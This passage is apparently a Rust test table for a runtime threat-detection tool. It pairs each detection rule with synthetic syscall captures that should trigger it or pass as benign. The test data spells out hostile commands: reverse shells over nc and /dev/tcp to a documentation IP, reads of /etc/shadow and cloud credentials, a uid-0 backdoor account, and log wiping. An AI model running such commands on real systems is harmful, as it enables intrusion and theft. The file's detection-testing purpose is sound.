//! Every default rule (rules/harrier_rules.yaml), one table row per case: a synthetic capture in
//! which the rule must fire (with the output fields a responder acts on), and one in which its
//! main exception — the benign look-alike — must hold. Captures are built with the project's scap
//! writer and replayed with `harrier replay --json`, so no root and no kernel are needed.
//!
//! A rule without both kinds of rows, or a row naming a rule that is not in the file, fails
//! `every_default_rule_has_rows`.

mod common;
mod synth;

use common::*;
use harrier_scap::FdKind;
use std::collections::BTreeSet;
use std::path::Path;
use synth::*;

enum Expect {
    /// The rule fires at least once, and its first alert has these output fields.
    Fires(&'static [(&'static str, &'static str)]),
    /// The rule does not fire.
    Holds,
}

struct Row {
    rule: &'static str,
    what: &'static str,
    build: fn(&mut Synth),
    expect: Expect,
}

// ------------------------------------------------------------------ fixtures

/// sshd (50) → interactive bash (100), root, on the host. Returns bash's tid.
fn login_shell(s: &mut Synth) -> u64 {
    if s.has(100) {
        return 100;
    }
    s.process(50, 1, "/usr/sbin/sshd", &["-D"]);
    s.process(100, 50, "/usr/bin/bash", &[]).tty = TTY_PTS0 as u32;
    100
}

/// A user's shell runs `exe args…`; returns the new process.
fn run(s: &mut Synth, exe: &str, args: &[&str]) -> u64 {
    let sh = login_shell(s);
    s.spawn(sh, Cmd::new(exe, args))
}

/// containerd-shim (200, host) → the container's first process, sh (201, vpid 1), in the test
/// container whose image is `nginx`. Returns 201.
fn container_sh(s: &mut Synth) -> u64 {
    s.process(200, 1, "/usr/bin/containerd-shim-runc-v2", &["-namespace", "k8s.io"]);
    s.process(201, 200, "/bin/sh", &["-c", "nginx -g 'daemon off;'"]);
    s.containerize(201);
    s.container(201, "nginx", false);
    201
}

/// dpkg (300), run by apt-get (299) from the login shell.
fn dpkg(s: &mut Synth) -> u64 {
    let sh = login_shell(s);
    s.process(299, sh, "/usr/bin/apt-get", &["install", "-y", "htop"]);
    s.process(300, 299, "/usr/bin/dpkg", &["--status-fd", "23", "--unpack", "htop.deb"]);
    300
}

fn udp_send(s: &mut Synth, tid: u64, fd: i64, dip: [u8; 4], dport: u16) {
    s.syscall(
        tid,
        "socket",
        &[("fd", V::I(fd)), ("domain", V::I(2)), ("type", V::I(2)), ("proto", V::I(0)), ("flags", V::I(0))],
    );
    s.syscall(
        tid,
        "sendto",
        &[
            ("res", V::I(32)),
            ("fd", V::I(fd)),
            ("size", V::I(32)),
            ("tuple", tuple4([10, 0, 0, 5], 51000, dip, dport)),
        ],
    );
}

// ------------------------------------------------------------------ the table

const ROWS: &[Row] = &[
    // --- Terminal shell in container
    Row {
        rule: "Terminal shell in container",
        what: "bash with a terminal in a container",
        build: |s| {
            let c = container_sh(s);
            s.spawn(c, Cmd::new("/bin/bash", &[]).tty().in_container());
        },
        expect: Expect::Fires(&[
            ("proc.name", "bash"),
            ("proc.tty", "142606336"),
            ("container.id", "3ad7b26ded6d"),
            ("container.image.repository", "nginx"),
            ("proc.pname", "sh"),
        ]),
    },
    Row {
        rule: "Terminal shell in container",
        what: "a shell without a terminal (probes, exec of a command)",
        build: |s| {
            let c = container_sh(s);
            s.spawn(c, Cmd::new("/bin/bash", &["-c", "test -f /tmp/ready"]).in_container());
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Terminal shell in container",
        what: "a terminal shell on the host",
        build: |s| {
            run(s, "/usr/bin/bash", &[]);
        },
        expect: Expect::Holds,
    },
    // --- Shell spawned by a server process
    Row {
        rule: "Shell spawned by a server process",
        what: "nginx starts sh",
        build: |s| {
            s.process(400, 1, "/usr/sbin/nginx", &["-g", "daemon off;"]);
            s.spawn(400, Cmd::new("/bin/sh", &["-c", "id"]));
        },
        expect: Expect::Fires(&[
            ("proc.pname", "nginx"),
            ("proc.cmdline", "sh -c id"),
            ("user.name", "root"),
        ]),
    },
    Row {
        rule: "Shell spawned by a server process",
        what: "node (RCE in a Node app) starts bash through execveat",
        build: |s| {
            s.process(400, 1, "/usr/bin/node", &["/srv/app/server.js"]);
            s.spawn(400, Cmd::new("/bin/bash", &["-i"]).execveat());
        },
        expect: Expect::Fires(&[("proc.pname", "node"), ("proc.pcmdline", "node /srv/app/server.js")]),
    },
    Row {
        rule: "Shell spawned by a server process",
        what: "npm start runs a package script through sh",
        build: |s| {
            s.process(400, 1, "/usr/bin/node", &["/usr/bin/npm", "start"]);
            s.spawn(400, Cmd::new("/bin/sh", &["-c", "node server.js"]));
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Shell spawned by a server process",
        what: "python's subprocess.run(..., shell=True) runs sh -c",
        build: |s| {
            let py = run(s, "/usr/bin/python3", &["tool.py"]);
            s.spawn(py, Cmd::new("/bin/sh", &["-c", "ls -l /tmp | wc -l"]));
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Shell spawned by a server process",
        what: "java's Runtime.exec runs bash -ec",
        build: |s| {
            s.process(400, 1, "/usr/bin/java", &["-jar", "/srv/app.jar"]);
            s.spawn(400, Cmd::new("/bin/bash", &["-ec", "git rev-parse HEAD"]));
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Shell spawned by a server process",
        what: "python (a web shell) starts sh reading its input",
        build: |s| {
            s.process(400, 1, "/usr/bin/python3", &["/srv/app/wsgi.py"]);
            s.spawn(400, Cmd::new("/bin/sh", &[]));
        },
        expect: Expect::Fires(&[("proc.pname", "python3"), ("proc.cmdline", "sh")]),
    },
    Row {
        rule: "Shell spawned by a server process",
        what: "sshd starts a login shell",
        build: |s| {
            run(s, "/bin/sh", &["-c", "uptime"]);
        },
        expect: Expect::Holds,
    },
    // --- Package manager run in container
    Row {
        rule: "Package manager run in container",
        what: "apt-get install in a container",
        build: |s| {
            let c = container_sh(s);
            s.spawn(c, Cmd::new("/usr/bin/apt-get", &["install", "-y", "nmap"]).in_container());
        },
        expect: Expect::Fires(&[
            ("proc.cmdline", "apt-get install -y nmap"),
            ("container.id", "3ad7b26ded6d"),
            ("container.name", "web-1"),
        ]),
    },
    Row {
        rule: "Package manager run in container",
        what: "apt-get on the host",
        build: |s| {
            run(s, "/usr/bin/apt-get", &["install", "-y", "htop"]);
        },
        expect: Expect::Holds,
    },
    // --- Write below binary directory
    Row {
        rule: "Write below binary directory",
        what: "podman unpacks an image layer (its own binary re-executed, chrooted into the layer)",
        build: |s| {
            let pm = run(s, "/usr/bin/podman", &["import", "rootfs.tar", "img"]);
            let exe = s.spawn(
                pm,
                Cmd::new("/proc/self/exe", &["/", "/var/lib/containers/storage/overlay/x/diff"]).comm("exe"),
            );
            s.open(exe, 5, "/bin/busybox", flags::CREATE);
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Write below etc",
        what: "podman takes its CNI network lock",
        build: |s| {
            let pm = run(s, "/usr/bin/podman", &["run", "--rm", "img", "true"]);
            s.open(pm, 5, "/etc/cni/net.d/cni.lock", flags::CREATE);
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Write below etc",
        what: "a shell drops a CNI network configuration",
        build: |s| {
            let p = run(s, "/usr/bin/tee", &["/etc/cni/net.d/00-evil.conflist"]);
            s.open(p, 3, "/etc/cni/net.d/00-evil.conflist", flags::CREATE);
        },
        expect: Expect::Fires(&[("fd.name", "/etc/cni/net.d/00-evil.conflist"), ("proc.name", "tee")]),
    },
    Row {
        rule: "Write below binary directory",
        what: "curl writes into /usr/local/bin",
        build: |s| {
            let p = run(s, "/usr/bin/curl", &["-o", "/usr/local/bin/kworkerd", "http://203.0.113.7/x"]);
            s.open(p, 3, "/usr/local/bin/kworkerd", flags::CREATE);
        },
        expect: Expect::Fires(&[
            ("fd.name", "/usr/local/bin/kworkerd"),
            ("proc.name", "curl"),
            ("proc.pname", "bash"),
        ]),
    },
    Row {
        rule: "Write below binary directory",
        what: "dpkg unpacks into /usr/bin",
        build: |s| {
            let d = dpkg(s);
            s.open(d, 5, "/usr/bin/htop.dpkg-new", flags::CREATE);
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Write below binary directory",
        what: "a maintainer script run by dpkg copies into /usr/local/bin",
        build: |s| {
            let d = dpkg(s);
            let post = s.spawn(d, Cmd::new("/bin/sh", &["/var/lib/dpkg/info/htop.postinst", "configure"]));
            let cp = s.spawn(post, Cmd::new("/usr/bin/cp", &["htop", "/usr/local/bin/htop"]));
            s.open(cp, 4, "/usr/local/bin/htop", flags::CREATE);
        },
        expect: Expect::Holds,
    },
    // --- Write below etc
    Row {
        rule: "Write below etc",
        what: "tee writes /etc/ld.so.preload (openat2)",
        build: |s| {
            let p = run(s, "/usr/bin/tee", &["/etc/ld.so.preload"]);
            s.open_with("openat2", p, 3, "/etc/ld.so.preload", flags::CREATE);
        },
        expect: Expect::Fires(&[
            ("fd.name", "/etc/ld.so.preload"),
            ("proc.cmdline", "tee /etc/ld.so.preload"),
        ]),
    },
    Row {
        rule: "Write below etc",
        what: "sed -i edits /etc/ssh/sshd_config",
        build: |s| {
            let p = run(s, "/usr/bin/sed", &["-i", "s/no/yes/", "/etc/ssh/sshd_config"]);
            s.open(p, 4, "/etc/ssh/sedX1a2b3", flags::CREATE);
        },
        expect: Expect::Fires(&[("fd.name", "/etc/ssh/sedX1a2b3"), ("proc.name", "sed")]),
    },
    Row {
        rule: "Write below etc",
        what: "dpkg writes a conffile",
        build: |s| {
            let d = dpkg(s);
            s.open(d, 5, "/etc/htoprc.dpkg-new", flags::CREATE);
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Write below etc",
        what: "useradd writes /etc/passwd",
        build: |s| {
            let p = run(s, "/usr/sbin/useradd", &["-m", "bob"]);
            s.open(p, 4, "/etc/passwd+", flags::CREATE);
        },
        expect: Expect::Holds,
    },
    // --- Write below root home
    Row {
        rule: "Write below root home",
        what: "an SSH key appended to root's authorized_keys (open)",
        build: |s| {
            let sh = login_shell(s);
            s.open_with("open", sh, 3, "/root/.ssh/authorized_keys", flags::APPEND);
        },
        expect: Expect::Fires(&[
            ("fd.name", "/root/.ssh/authorized_keys"),
            ("proc.name", "bash"),
            ("user.name", "root"),
        ]),
    },
    Row {
        rule: "Write below root home",
        what: "bash saves its history",
        build: |s| {
            let sh = login_shell(s);
            s.open(sh, 3, "/root/.bash_history", flags::APPEND);
        },
        expect: Expect::Holds,
    },
    // --- Write below dev
    Row {
        rule: "Write below dev",
        what: "a regular file created in /dev (creat)",
        build: |s| {
            let sh = login_shell(s);
            s.open_with("creat", sh, 3, "/dev/.lib1", flags::CREATE);
        },
        expect: Expect::Fires(&[("fd.name", "/dev/.lib1"), ("proc.name", "bash")]),
    },
    Row {
        rule: "Write below dev",
        what: "a shared-memory file in /dev/shm",
        build: |s| {
            let p = run(s, "/usr/bin/python3", &["worker.py"]);
            s.open(p, 3, "/dev/shm/sem.worker", flags::CREATE);
        },
        expect: Expect::Holds,
    },
    // --- Read sensitive file by untrusted program
    Row {
        rule: "Read sensitive file by untrusted program",
        what: "cat /etc/shadow",
        build: |s| {
            let p = run(s, "/usr/bin/cat", &["/etc/shadow"]);
            s.open(p, 3, "/etc/shadow", flags::READ);
        },
        expect: Expect::Fires(&[
            ("fd.name", "/etc/shadow"),
            ("proc.cmdline", "cat /etc/shadow"),
            ("proc.pname", "bash"),
        ]),
    },
    Row {
        rule: "Read sensitive file by untrusted program",
        what: "python reads cloud credentials",
        build: |s| {
            let p = run(s, "/usr/bin/python3", &["steal.py"]);
            s.open(p, 3, "/root/.aws/credentials", flags::READ);
        },
        expect: Expect::Fires(&[("fd.name", "/root/.aws/credentials"), ("proc.name", "python3")]),
    },
    Row {
        rule: "Read sensitive file by untrusted program",
        what: "sshd checks a password",
        build: |s| {
            s.process(50, 1, "/usr/sbin/sshd", &["-D"]);
            s.open(50, 6, "/etc/shadow", flags::READ);
        },
        expect: Expect::Holds,
    },
    // --- Search for private keys or passwords
    Row {
        rule: "Search for private keys or passwords",
        what: "find / -name id_rsa",
        build: |s| {
            run(s, "/usr/bin/find", &["/", "-name", "id_rsa"]);
        },
        expect: Expect::Fires(&[("proc.cmdline", "find / -name id_rsa"), ("proc.pname", "bash")]),
    },
    Row {
        rule: "Search for private keys or passwords",
        what: "grep for a private key header",
        build: |s| {
            run(s, "/usr/bin/grep", &["-rl", "BEGIN OPENSSH PRIVATE KEY", "/home"]);
        },
        expect: Expect::Fires(&[("proc.name", "grep")]),
    },
    Row {
        rule: "Search for private keys or passwords",
        what: "grep alice /etc/passwd",
        build: |s| {
            run(s, "/usr/bin/grep", &["alice", "/etc/passwd"]);
        },
        expect: Expect::Holds,
    },
    // --- Reverse shell
    Row {
        rule: "Reverse shell",
        what: "sh with stdin and stdout on a TCP connection",
        build: |s| {
            s.process(400, 1, "/usr/bin/python3", &["-c", "..."]);
            s.connect(400, 3, [203, 0, 113, 7], 4444, false);
            s.dup2(400, 3, 0);
            s.dup2(400, 3, 1);
            s.spawn(400, Cmd::new("/bin/sh", &["-i"]));
        },
        expect: Expect::Fires(&[
            ("proc.name", "sh"),
            ("proc.stdin.name", "10.0.0.5:40000->203.0.113.7:4444"),
            ("proc.stdout.name", "10.0.0.5:40000->203.0.113.7:4444"),
            ("proc.pname", "python3"),
        ]),
    },
    Row {
        rule: "Reverse shell",
        what: "nc -e /bin/sh",
        build: |s| {
            run(s, "/usr/bin/nc", &["-e", "/bin/sh", "203.0.113.7", "4444"]);
        },
        expect: Expect::Fires(&[("proc.cmdline", "nc -e /bin/sh 203.0.113.7 4444")]),
    },
    Row {
        rule: "Reverse shell",
        what: "bash -i >& /dev/tcp/…",
        build: |s| {
            run(s, "/usr/bin/bash", &["-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]);
        },
        expect: Expect::Fires(&[("proc.name", "bash")]),
    },
    Row {
        rule: "Reverse shell",
        what: "a shell reading a pipe; nc checking a port",
        build: |s| {
            let sh = login_shell(s);
            s.header_fd(sh, 0, FdKind::Named { fd_type: 7, name: "pipe:[1234]".into() });
            s.spawn(sh, Cmd::new("/bin/sh", &["-s"]));
            s.spawn(sh, Cmd::new("/usr/bin/nc", &["-z", "-v", "10.0.0.9", "22"]));
        },
        expect: Expect::Holds,
    },
    // --- Execution from a temporary directory
    Row {
        rule: "Execution from a temporary directory",
        what: "a binary dropped in /tmp runs",
        build: |s| {
            run(s, "/tmp/.x/kworker", &[]);
        },
        expect: Expect::Fires(&[("proc.exepath", "/tmp/.x/kworker"), ("proc.pname", "bash")]),
    },
    Row {
        rule: "Execution from shared memory",
        what: "a binary dropped in /dev/shm runs",
        build: |s| {
            run(s, "/dev/shm/x", &["--pool", "203.0.113.7:3333"]);
        },
        expect: Expect::Fires(&[("proc.exepath", "/dev/shm/x")]),
    },
    Row {
        rule: "Execution from shared memory",
        what: "a program uses a POSIX semaphore file in /dev/shm",
        build: |s| {
            let p = run(s, "/usr/bin/python3", &["worker.py"]);
            s.open(p, 3, "/dev/shm/sem.worker", flags::CREATE);
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Execution from a temporary directory",
        what: "a link in /tmp to a system binary",
        build: |s| {
            let sh = login_shell(s);
            s.spawn(sh, Cmd::new("/tmp/ws/bin/nginx", &[]).exepath("/usr/bin/dash"));
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Execution from a temporary directory",
        what: "cargo runs a build script it built in /tmp",
        build: |s| {
            let c = run(s, "/root/.cargo/bin/cargo", &["build"]);
            s.spawn(c, Cmd::new("/tmp/demo/target/debug/build/demo-1/build-script-build", &[]));
        },
        expect: Expect::Holds,
    },
    // --- Fileless execution via memfd
    Row {
        rule: "Fileless execution via memfd",
        what: "a program runs from a memfd",
        build: |s| {
            let sh = login_shell(s);
            s.spawn(
                sh,
                Cmd::new("/proc/self/fd/3", &[]).comm("3").exepath("memfd:payload").flags(EXE_FROM_MEMFD),
            );
        },
        expect: Expect::Fires(&[("proc.exepath", "memfd:payload"), ("proc.pname", "bash")]),
    },
    Row {
        rule: "Fileless execution via memfd",
        what: "runc re-executes its memfd copy",
        build: |s| {
            s.process(200, 1, "/usr/bin/containerd-shim-runc-v2", &[]);
            s.spawn(
                200,
                Cmd::new("/proc/self/fd/5", &["init"])
                    .comm("5")
                    .exepath("memfd:runc_cloned:/proc/self/exe")
                    .flags(EXE_FROM_MEMFD),
            );
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Fileless execution via memfd",
        what: "systemd runs its service executor from a sealed memfd",
        build: |s| {
            s.process(1, 0, "/usr/lib/systemd/systemd", &[]);
            s.spawn(
                1,
                Cmd::new("/proc/self/fd/7", &["--deserialize", "3"])
                    .comm("systemd-executo")
                    .exepath("memfd:systemd-executor")
                    .flags(EXE_FROM_MEMFD),
            );
        },
        expect: Expect::Holds,
    },
    // --- Ptrace attach or code injection
    Row {
        rule: "Ptrace attach or code injection",
        what: "python attaches to another process",
        build: |s| {
            let p = run(s, "/usr/bin/python3", &["inject.py", "4242"]);
            s.syscall(
                p,
                "ptrace",
                &[("res", V::I(0)), ("request", V::I(PTRACE_ATTACH)), ("pid", V::I(4242))],
            );
        },
        expect: Expect::Fires(&[
            ("evt.arg.request", "PTRACE_ATTACH"),
            ("evt.arg.pid", "4242"),
            ("proc.name", "python3"),
        ]),
    },
    Row {
        rule: "Ptrace attach or code injection",
        what: "gdb attaches",
        build: |s| {
            let p = run(s, "/usr/bin/gdb", &["-p", "4242"]);
            s.syscall(
                p,
                "ptrace",
                &[("res", V::I(0)), ("request", V::I(PTRACE_ATTACH)), ("pid", V::I(4242))],
            );
        },
        expect: Expect::Holds,
    },
    // --- Kernel module load
    Row {
        rule: "Kernel module load",
        what: "insmod loads a module (finit_module)",
        build: |s| {
            let p = run(s, "/usr/sbin/insmod", &["/tmp/rootkit.ko"]);
            s.open(p, 3, "/tmp/rootkit.ko", flags::READ);
            s.syscall(
                p,
                "finit_module",
                &[("res", V::I(0)), ("fd", V::I(3)), ("uargs", s_("")), ("flags", V::I(0))],
            );
        },
        expect: Expect::Fires(&[("proc.cmdline", "insmod /tmp/rootkit.ko"), ("evt.res", "SUCCESS")]),
    },
    Row {
        rule: "Kernel module load",
        what: "a failed init_module attempt",
        build: |s| {
            let p = run(s, "/usr/bin/python3", &["load.py"]);
            s.syscall(p, "init_module", &[("res", V::I(-1)), ("length", V::I(0)), ("uargs", s_(""))]);
        },
        expect: Expect::Fires(&[("evt.res", "EPERM"), ("proc.name", "python3")]),
    },
    Row {
        rule: "Kernel module load",
        what: "udev loads a driver on hotplug",
        build: |s| {
            s.process(60, 1, "/usr/lib/systemd/systemd-udevd", &[]);
            s.syscall(
                60,
                "finit_module",
                &[("res", V::I(0)), ("fd", V::I(9)), ("uargs", s_("")), ("flags", V::I(0))],
            );
        },
        expect: Expect::Holds,
    },
    // --- BPF program load
    Row {
        rule: "BPF program load",
        what: "python loads a BPF program",
        build: |s| {
            let p = run(s, "/usr/bin/python3", &["bpf.py"]);
            s.syscall(p, "bpf", &[("fd", V::I(4)), ("cmd", V::I(5))]);
        },
        expect: Expect::Fires(&[("proc.cmdline", "python3 bpf.py"), ("proc.pname", "bash")]),
    },
    Row {
        rule: "BPF program load",
        what: "bpftool loads a program; python only creates a map",
        build: |s| {
            let p = run(s, "/usr/sbin/bpftool", &["prog", "load", "x.o", "/sys/fs/bpf/x"]);
            s.syscall(p, "bpf", &[("fd", V::I(4)), ("cmd", V::I(5))]);
            let p = s.spawn(100, Cmd::new("/usr/bin/python3", &["map.py"]));
            s.syscall(p, "bpf", &[("fd", V::I(4)), ("cmd", V::I(0))]);
        },
        expect: Expect::Holds,
    },
    // --- Mount or namespace change in container
    Row {
        rule: "Mount or namespace change in container",
        what: "a shell in a container mounts the host disk",
        build: |s| {
            let c = container_sh(s);
            let p = s.spawn(c, Cmd::new("/bin/mount", &["/dev/sda1", "/mnt"]).in_container());
            s.syscall(
                p,
                "mount",
                &[
                    ("res", V::I(0)),
                    ("dev", s_("/dev/sda1")),
                    ("dir", s_("/mnt")),
                    ("type", s_("ext4")),
                    ("flags", V::I(0)),
                ],
            );
        },
        expect: Expect::Fires(&[
            ("evt.type", "mount"),
            ("container.id", "3ad7b26ded6d"),
            ("proc.name", "mount"),
        ]),
    },
    Row {
        rule: "Mount or namespace change in container",
        what: "setns into the host's namespaces from a container",
        build: |s| {
            let c = container_sh(s);
            let p = s.spawn(c, Cmd::new("/usr/bin/nsenter", &["-t", "1", "-m", "sh"]).in_container());
            s.syscall(p, "setns", &[("res", V::I(0)), ("fd", V::I(3)), ("nstype", V::I(0))]);
        },
        expect: Expect::Fires(&[("evt.type", "setns"), ("proc.name", "nsenter")]),
    },
    Row {
        rule: "Mount or namespace change in container",
        what: "runc's set-up stages unshare, setns and mount; a mount on the host",
        build: |s| {
            let c = container_sh(s);
            for stage in ["runc:[0:PARENT]", "runc:[1:CHILD]"] {
                let p = s.spawn(c, Cmd::new("/usr/bin/runc", &["init"]).comm(stage).in_container());
                s.syscall(p, "unshare", &[("res", V::I(0)), ("flags", V::I(0))]);
                s.syscall(p, "setns", &[("res", V::I(0)), ("fd", V::I(5)), ("nstype", V::I(0))]);
            }
            let p = s.spawn(c, Cmd::new("/usr/bin/runc", &["init"]).comm("runc:[2:INIT]").in_container());
            s.syscall(
                p,
                "mount",
                &[("res", V::I(0)), ("dev", s_("proc")), ("dir", s_("/proc")), ("type", s_("proc"))],
            );
            let h = run(s, "/bin/mount", &["/dev/sdb1", "/data"]);
            s.syscall(
                h,
                "mount",
                &[("res", V::I(0)), ("dev", s_("/dev/sdb1")), ("dir", s_("/data")), ("type", s_("ext4"))],
            );
        },
        expect: Expect::Holds,
    },
    // --- Privileged container started
    Row {
        rule: "Privileged container started",
        what: "the container event of a privileged container",
        build: |s| {
            s.process(200, 1, "/usr/bin/containerd-shim-runc-v2", &[]);
            let p = s.spawn(200, Cmd::new("/bin/sh", &["-c", "sleep 3600"]).in_container().vpid(1));
            s.container(p, "busybox", true);
        },
        expect: Expect::Fires(&[
            ("container.id", "3ad7b26ded6d"),
            ("container.name", "web-1"),
            ("container.image.repository", "busybox"),
            ("container.image.tag", "1.0"),
        ]),
    },
    Row {
        rule: "Privileged container started",
        what: "the container event of an unprivileged container",
        build: |s| {
            s.process(200, 1, "/usr/bin/containerd-shim-runc-v2", &[]);
            let p = s.spawn(200, Cmd::new("/bin/sh", &["-c", "sleep 3600"]).in_container().vpid(1));
            s.container(p, "busybox", false);
        },
        expect: Expect::Holds,
    },
    // --- Setuid to root by a non-sudo program
    Row {
        rule: "Setuid to root by a non-sudo program",
        what: "a user's python tries setuid(0)",
        build: |s| {
            let sh = login_shell(s);
            let p = s.spawn(sh, Cmd::new("/usr/bin/python3", &["exploit.py"]).uid(1000));
            s.syscall(p, "setuid", &[("res", V::I(-1)), ("uid", V::I(0))]);
        },
        expect: Expect::Fires(&[("evt.res", "EPERM"), ("user.uid", "1000"), ("proc.name", "python3")]),
    },
    Row {
        rule: "Setuid to root by a non-sudo program",
        what: "setreuid(-1, 0) by a user's program",
        build: |s| {
            let p = s.spawn(1, Cmd::new("/home/alice/x", &[]).uid(1000));
            s.syscall(
                p,
                "setreuid",
                &[("res", V::I(-1)), ("ruid", V::I(u32::MAX as i64)), ("euid", V::I(0))],
            );
        },
        expect: Expect::Fires(&[("evt.res", "EPERM"), ("user.name", "alice"), ("proc.name", "x")]),
    },
    Row {
        rule: "Setuid to root by a non-sudo program",
        what: "a setuid-root helper that succeeds is judged as its caller",
        build: |s| {
            let sh = login_shell(s);
            let p = s.spawn(sh, Cmd::new("/tmp/rootme", &[]).uid(1000));
            s.syscall(p, "setuid", &[("res", V::I(0)), ("uid", V::I(0))]);
        },
        expect: Expect::Fires(&[("evt.res", "SUCCESS"), ("user.uid", "1000"), ("proc.name", "rootme")]),
    },
    Row {
        rule: "Setuid to root by a non-sudo program",
        what: "apt-get takes root back after working as _apt",
        build: |s| {
            let p = s.spawn(1, Cmd::new("/usr/bin/apt-get", &["update"]).uid(42));
            s.syscall(
                p,
                "setresuid",
                &[
                    ("res", V::I(0)),
                    ("ruid", V::I(u32::MAX as i64)),
                    ("euid", V::I(0)),
                    ("suid", V::I(u32::MAX as i64)),
                ],
            );
        },
        expect: Expect::Holds,
    },
    Row {
        rule: "Setuid to root by a non-sudo program",
        what: "sudo becomes root",
        build: |s| {
            let p = s.spawn(1, Cmd::new("/usr/bin/sudo", &["id"]).uid(1000));
            s.syscall(
                p,
                "setresuid",
                &[("res", V::I(0)), ("ruid", V::I(0)), ("euid", V::I(0)), ("suid", V::I(0))],
            );
        },
        expect: Expect::Holds,
    },
    // --- User or group management
    Row {
        rule: "User or group management",
        what: "useradd from a shell",
        build: |s| {
            run(s, "/usr/sbin/useradd", &["-m", "-o", "-u", "0", "backdoor"]);
        },
        expect: Expect::Fires(&[("proc.cmdline", "useradd -m -o -u 0 backdoor"), ("proc.pname", "bash")]),
    },
    Row {
        rule: "User or group management",
        what: "a package's postinst script adds its system user",
        build: |s| {
            let d = dpkg(s);
            let post = s.spawn(d, Cmd::new("/bin/sh", &["/var/lib/dpkg/info/redis.postinst", "configure"]));
            let add = s.spawn(post, Cmd::new("/usr/sbin/adduser", &["--system", "redis"]));
            s.spawn(add, Cmd::new("/usr/sbin/useradd", &["-r", "redis"]));
        },
        expect: Expect::Holds,
    },
    // --- Log files cleared
    Row {
        rule: "Log files cleared",
        what: "a log truncated with > (O_TRUNC)",
        build: |s| {
            let sh = login_shell(s);
            s.open(sh, 3, "/var/log/auth.log", flags::TRUNC);
        },
        expect: Expect::Fires(&[
            ("fd.name", "/var/log/auth.log"),
            ("evt.type", "openat"),
            ("proc.name", "bash"),
        ]),
    },
    Row {
        rule: "Log files cleared",
        what: "a log deleted (unlinkat)",
        build: |s| {
            let p = run(s, "/usr/bin/rm", &["-f", "/var/log/wtmp"]);
            s.syscall(
                p,
                "unlinkat",
                &[("res", V::I(0)), ("dirfd", V::I(-100)), ("name", s_("/var/log/wtmp")), ("flags", V::I(0))],
            );
        },
        expect: Expect::Fires(&[("fs.path.name", "/var/log/wtmp"), ("evt.type", "unlinkat")]),
    },
    Row {
        rule: "Log files cleared",
        what: "truncate -s 0 on a log",
        build: |s| {
            run(s, "/usr/bin/truncate", &["-s", "0", "/var/log/syslog"]);
        },
        expect: Expect::Fires(&[("proc.cmdline", "truncate -s 0 /var/log/syslog")]),
    },
    Row {
        rule: "Log files cleared",
        what: "logrotate truncates a log",
        build: |s| {
            let p = s.spawn(1, Cmd::new("/usr/sbin/logrotate", &["/etc/logrotate.conf"]));
            s.open(p, 3, "/var/log/syslog", flags::TRUNC);
            s.syscall(p, "unlink", &[("res", V::I(0)), ("path", s_("/var/log/syslog.7.gz"))]);
        },
        expect: Expect::Holds,
    },
    // --- Cron or systemd persistence
    Row {
        rule: "Cron or systemd persistence",
        what: "a file written in /etc/cron.d",
        build: |s| {
            let sh = login_shell(s);
            s.open(sh, 3, "/etc/cron.d/update", flags::CREATE);
        },
        expect: Expect::Fires(&[("fd.name", "/etc/cron.d/update"), ("proc.name", "bash")]),
    },
    Row {
        rule: "Cron or systemd persistence",
        what: "a unit renamed into /etc/systemd/system (renameat2)",
        build: |s| {
            let p = run(s, "/usr/bin/mv", &["/tmp/x.service", "/etc/systemd/system/x.service"]);
            s.syscall(
                p,
                "renameat2",
                &[
                    ("res", V::I(0)),
                    ("olddirfd", V::I(-100)),
                    ("oldpath", s_("/tmp/x.service")),
                    ("newdirfd", V::I(-100)),
                    ("newpath", s_("/etc/systemd/system/x.service")),
                    ("flags", V::I(0)),
                ],
            );
        },
        expect: Expect::Fires(&[("fs.path.target", "/etc/systemd/system/x.service"), ("proc.name", "mv")]),
    },
    Row {
        rule: "Cron or systemd persistence",
        what: "crontab -e saves a user crontab; dpkg installs a cron job",
        build: |s| {
            let d = dpkg(s);
            s.open(d, 5, "/etc/cron.daily/htop", flags::CREATE);
            let p = run(s, "/usr/bin/crontab", &["-e"]);
            s.open(p, 3, "/var/spool/cron/crontabs/root", flags::CREATE);
        },
        expect: Expect::Holds,
    },
    // --- Shell configuration modified
    Row {
        rule: "Shell configuration modified",
        what: "a line appended to a user's .bashrc",
        build: |s| {
            let sh = login_shell(s);
            s.open(sh, 3, "/home/alice/.bashrc", flags::APPEND);
        },
        expect: Expect::Fires(&[("fd.name", "/home/alice/.bashrc"), ("proc.name", "bash")]),
    },
    Row {
        rule: "Shell configuration modified",
        what: "dpkg updates /etc/bash.bashrc; bash reads .bashrc",
        build: |s| {
            let d = dpkg(s);
            s.open(d, 5, "/etc/bash.bashrc", flags::CREATE);
            s.open(100, 3, "/root/.bashrc", flags::READ);
        },
        expect: Expect::Holds,
    },
    // --- Link to a sensitive file
    Row {
        rule: "Link to a sensitive file",
        what: "ln -s /etc/shadow (symlinkat)",
        build: |s| {
            let p = run(s, "/usr/bin/ln", &["-s", "/etc/shadow", "/tmp/s"]);
            s.syscall(
                p,
                "symlinkat",
                &[
                    ("res", V::I(0)),
                    ("target", s_("/etc/shadow")),
                    ("linkdirfd", V::I(-100)),
                    ("linkpath", s_("/tmp/s")),
                ],
            );
        },
        expect: Expect::Fires(&[
            ("fs.path.source", "/etc/shadow"),
            ("fs.path.target", "/tmp/s"),
            ("proc.name", "ln"),
        ]),
    },
    Row {
        rule: "Link to a sensitive file",
        what: "a hard link to root's SSH key (linkat)",
        build: |s| {
            let p = run(s, "/usr/bin/ln", &["/root/.ssh/id_rsa", "/tmp/k"]);
            s.syscall(
                p,
                "linkat",
                &[
                    ("res", V::I(0)),
                    ("olddir", V::I(-100)),
                    ("oldpath", s_("/root/.ssh/id_rsa")),
                    ("newdir", V::I(-100)),
                    ("newpath", s_("/tmp/k")),
                    ("flags", V::I(0)),
                ],
            );
        },
        expect: Expect::Fires(&[("fs.path.source", "/root/.ssh/id_rsa")]),
    },
    Row {
        rule: "Link to a sensitive file",
        what: "dpkg links a PAM configuration; a link to /etc/hostname",
        build: |s| {
            let d = dpkg(s);
